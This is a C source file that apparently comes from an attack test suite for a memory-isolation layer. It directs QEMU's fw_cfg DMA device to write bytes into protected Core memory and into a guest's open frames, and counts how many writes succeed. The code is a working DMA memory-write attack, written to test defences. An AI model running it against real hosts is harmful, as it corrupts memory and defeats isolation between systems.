// SPDX-License-Identifier: Apache-2.0
// QEMU's fw_cfg device writes wherever it is told (docs/specs/fw_cfg in QEMU's tree).
#include <endian.h>
#include <fcntl.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>
#include "attack.h"

#define DMA_PORT      0x514
#define DMA_READ      2u
#define DMA_SELECT    8u
#define FREE_RAM      0x10000000ull /* as in core_ram.c */
#define TARGETS	      8u
#define SIGNATURE_LEN 4u

struct dma {
	uint32_t control, length;
	uint64_t address;
};

static uint64_t frame_of(const volatile void *at)
{
	uint64_t word = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);

	if (fd < 0 || pread(fd, &word, 8, (off_t)((uintptr_t)at / PAGE * 8)) != 8)
		die("pagemap");
	close(fd);
	return word & ((1ull << 55) - 1);
}

/* Is the transfer done? */
static bool transfer(uint64_t target)
{
	static volatile struct dma command __attribute__((aligned(4096)));
	uint64_t at;

	command.control = htobe32(DMA_READ | DMA_SELECT); /* item 0: "QEMU" */
	command.length = htobe32(SIGNATURE_LEN);
	command.address = htobe64(target);
	mlock((const void *)(uintptr_t)&command, sizeof(command));
	at = frame_of(&command) * PAGE;
	outl(htobe32((uint32_t)(at >> 32)), DMA_PORT);
	outl(htobe32((uint32_t)at), DMA_PORT + 4);
	for (unsigned i = 0; i < 1000000; i++) {
		if (!command.control)
			return true;
	}
	return false;
}

ATTACK(fw_cfg_dma, "host root", ON_MACHINE,
       "The host has QEMU's fw_cfg device write into Core memory and into open frames of a zone, "
       "by each of its two address ports. Gained: bytes written.")
{
	struct cl_open_frames frames = {.instance = 0};
	struct vm vm;
	uint64_t word;

	if (iopl(3))
		die("iopl");
	if (zone) {
		victim(&vm, TASK_ROUNDS, TARGETS, 0);
		expect(hears(&vm, &word) && word == SAY_PAGES, "the guest does not work");
		frames.instance = zone_info(&vm).instance;
		expect(!core_call(CL_OP_OPEN_FRAMES, &frames, sizeof(frames)) && frames.count,
		       "no open frames");
	}
	for (unsigned i = 0; i < TARGETS; i++) {
		uint64_t core = (zone ? core_info().core_base : FREE_RAM) + i * 0x10000;

		tried(1);
		gained(transfer(core) ? SIGNATURE_LEN : 0);
		if (zone && i < frames.count) {
			tried(1);
			gained(transfer(frames.pfn[i] * PAGE) ? SIGNATURE_LEN : 0);
		}
	}
	if (zone) {
		expect(hears(&vm, &word) && word == 0, "the guest has lost pages");
		vm_close(&vm);
	}
}
